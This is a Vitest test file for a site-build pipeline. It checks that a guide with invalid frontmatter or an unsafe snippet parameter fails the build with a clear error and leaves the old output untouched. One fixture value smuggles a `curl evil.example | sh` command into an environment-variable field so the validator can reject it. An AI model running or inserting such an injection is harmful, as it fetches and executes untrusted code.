/**
 * Promise 5 at build level: a guide with broken frontmatter or an unsafe
 * snippet parameter fails `npm run build` with one message naming the file and
 * the field, and leaves the previous dist/ untouched.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';

const FIXTURE = readFileSync('test/fixtures/secrets/example-api-token.mdx', 'utf8');

/** A copy of the project whose only secret guide is `guide`. */
function projectWith(guide: string): string {
  const root = mkdtempSync(join(tmpdir(), 'leakfix-build-'));
  for (const path of ['package.json', 'tsconfig.json', 'astro.config.mjs', 'src', 'templates', 'public', 'scripts', 'content/guides']) {
    cpSync(path, join(root, path), { recursive: true });
  }
  mkdirSync(join(root, 'content/secrets'), { recursive: true });
  writeFileSync(join(root, 'content/secrets/example-api-token.mdx'), guide);
  symlinkSync(resolve('node_modules'), join(root, 'node_modules'), 'dir');
  mkdirSync(join(root, 'dist'));
  writeFileSync(join(root, 'dist/index.html'), 'previous build');
  return root;
}

function build(root: string) {
  const result = spawnSync('npm', ['run', '--silent', 'build'], { cwd: root, encoding: 'utf8', env: { ...process.env, LEAKFIX_BASE: '/' } });
  return { status: result.status, output: result.stdout + result.stderr, root };
}

describe('a broken guide fails the build', () => {
  it.concurrent('broken frontmatter: names the file and the field', () => {
    const { status, output, root } = build(projectWith(FIXTURE.replace('category: generic', 'category: spaceships')));
    expect(status).not.toBe(0);
    expect(output).toContain('Invalid frontmatter in content/secrets/example-api-token.mdx');
    expect(output).toMatch(/"category" must be one of cloud, .*; received "spaceships"/);
    expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
    expect(readdirSync(root).filter((name) => name.includes('staging'))).toEqual([]);
  });

  it.concurrent('an unsafe snippet parameter: names the file, the field and the rule', () => {
    const unsafe = FIXTURE.replace('envVar: EXAMPLE_TOKEN', `envVar: 'EXAMPLE"; curl evil.example | sh; "'`);
    const { status, output, root } = build(projectWith(unsafe));
    expect(status).not.toBe(0);
    expect(output).toContain('content/secrets/example-api-token.mdx: "snippet.envVar" must be an environment variable name matching ^[A-Z_][A-Z0-9_]*$');
    expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
  });
});
